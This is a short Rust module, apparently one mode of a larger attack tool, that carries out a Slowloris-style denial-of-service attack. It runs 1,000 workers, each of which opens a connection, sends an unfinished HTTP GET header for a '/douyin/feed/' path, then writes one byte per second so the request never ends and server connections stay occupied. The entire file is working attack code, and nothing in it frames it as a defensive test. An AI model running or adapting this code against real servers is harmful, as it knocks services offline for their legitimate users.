//! Sends heads of requests byte by byte, without an end.

use std::time::Duration;

use tokio::{io::AsyncWriteExt, time::interval};

use crate::{attacker::Attacker, source::connect};

const WORKERS: u16 = 1_000;
/// Between connections of a worker.
const PAUSE: Duration = Duration::from_millis(500);
const BYTE_INTERVAL: Duration = Duration::from_secs(1);
const START: &[u8] = b"GET /douyin/feed/ HTTP/1.1\r\nHost: a\r\nX-Slow: ";

pub(super) async fn run(attacker: Attacker) {
    attacker
        .repeat(WORKERS, PAUSE, async |worker| {
            let address = attacker.address(worker);
            let Ok(mut stream) = connect(address, attacker.api).await else {
                attacker.tally.add("failed to connect");
                return;
            };
            attacker.tally.add("connections");
            if stream.write_all(START).await.is_err() {
                attacker.tally.add("closed");
                return;
            }
            let mut ticks = interval(BYTE_INTERVAL);
            while stream.write_all(b"a").await.is_ok() {
                ticks.tick().await;
            }
            attacker.tally.add("closed");
        })
        .await;
}
